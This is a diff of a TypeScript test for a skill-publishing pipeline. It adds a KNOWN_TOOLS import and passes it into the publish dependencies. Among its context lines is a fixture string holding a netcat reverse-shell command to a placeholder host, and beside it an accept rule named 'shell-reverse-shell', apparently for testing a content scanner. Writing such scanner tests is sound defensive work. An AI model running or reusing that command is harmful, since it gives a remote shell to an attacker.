@@ -11,6 +11,7 @@ import { seedBuild, skillFiles } from './seed-build.ts'
 import { contentReader, isolateCache } from '../../src/skills/store/content-reader.ts'
 import { skillStores } from '../../src/skills/store/content.ts'
 import { publishFiles } from '../../src/skills/publish/publish.ts'
+import { KNOWN_TOOLS } from '../../src/tools/builtins.ts'
 
 const SHELL = '#!/bin/sh\nnc a.example.org 1 -e /bin/sh\n'
 const accept = [{ rule: 'shell-reverse-shell', reason: 'Taught here.' }]
@@ -62,7 +63,14 @@ it('is not carried on when it is purged between the question and the change', as
   const stores = skillStores(env)
   const content = contentReader(stores, 'accepted-2', isolateCache())
   const request = { files: skillFiles(further), note: null, author: 'ann', build, dryRun: false }
-  const deps = { workspace: 'accepted-2', stores, content, catalog: racing, pace: unpaced() }
+  const deps = {
+    workspace: 'accepted-2',
+    stores,
+    content,
+    catalog: racing,
+    pace: unpaced(),
+    tools: KNOWN_TOOLS,
+  }
   const lost = failure(await publishFiles(request, deps))
   expect(lost).toMatchObject({
     code: 'overloaded',
